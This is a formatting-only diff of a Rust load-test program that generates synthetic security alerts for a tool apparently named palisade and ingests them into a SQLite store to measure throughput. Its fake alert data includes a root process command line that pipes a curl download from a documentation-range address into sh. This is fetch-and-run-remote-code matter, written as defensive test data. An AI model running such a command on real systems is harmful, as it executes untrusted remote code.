@@ -5,7 +5,9 @@
 
 use std::{path::PathBuf, time::Instant};
 
-use palisade_model::{AffectedAsset, AlertDetails, Details, FindingReport, ProcessInfo, Severity, Timestamp};
+use palisade_model::{
+    AffectedAsset, AlertDetails, Details, FindingReport, ProcessInfo, Severity, Timestamp,
+};
 use palisade_store::{HandlingPolicy, SqliteStore, Store};
 
 const RULES: [&str; 8] = [
@@ -30,7 +32,11 @@ pub fn report(index: u64, now: i64) -> FindingReport {
         rule: RULES[(index % 8) as usize].into(),
         title: format!("{} in web-{pod}", RULES[(index % 8) as usize]),
         asset: AffectedAsset {
-            cluster: if index % 4 == 0 { "staging".into() } else { "prod".into() },
+            cluster: if index % 4 == 0 {
+                "staging".into()
+            } else {
+                "prod".into()
+            },
             node: Some(format!("node-{}", pod % 50)),
             namespace: Some(format!("team-{}", pod % 20)),
             pod: Some(format!("web-{pod}")),
@@ -44,7 +50,10 @@ pub fn report(index: u64, now: i64) -> FindingReport {
                 ppid: 1,
                 exe: "/bin/sh".into(),
                 // Distinct command lines make distinct findings, as in a noisy real cluster.
-                cmdline: format!("sh -c 'curl http://203.0.113.{}/x{index} | sh'", index % 250),
+                cmdline: format!(
+                    "sh -c 'curl http://203.0.113.{}/x{index} | sh'",
+                    index % 250
+                ),
                 user: "root".into(),
             },
             raw_event: serde_json::json!({"evt.type": "execve", "proc.name": "sh", "n": index}),
@@ -62,16 +71,23 @@ async fn main() {
         std::process::exit(2);
     };
     let count: u64 = count.parse().expect("COUNT must be a number");
-    let store = SqliteStore::open(&PathBuf::from(path)).await.expect("cannot open the database");
+    let store = SqliteStore::open(&PathBuf::from(path))
+        .await
+        .expect("cannot open the database");
     let now = Timestamp::now().millis();
     let started = Instant::now();
     let policy = HandlingPolicy::default();
     let mut index = 0;
     while index < count {
-        let batch: Vec<_> = (index..(index + 5_000).min(count)).map(|i| report(i, now)).collect();
+        let batch: Vec<_> = (index..(index + 5_000).min(count))
+            .map(|i| report(i, now))
+            .collect();
         store.ingest(&batch, &policy).await.expect("ingest failed");
         index += batch.len() as u64;
     }
     let seconds = started.elapsed().as_secs_f64();
-    println!("ingested {count} alerts in {seconds:.1} s: {:.0} alerts/s", count as f64 / seconds);
+    println!(
+        "ingested {count} alerts in {seconds:.1} s: {:.0} alerts/s",
+        count as f64 / seconds
+    );
 }
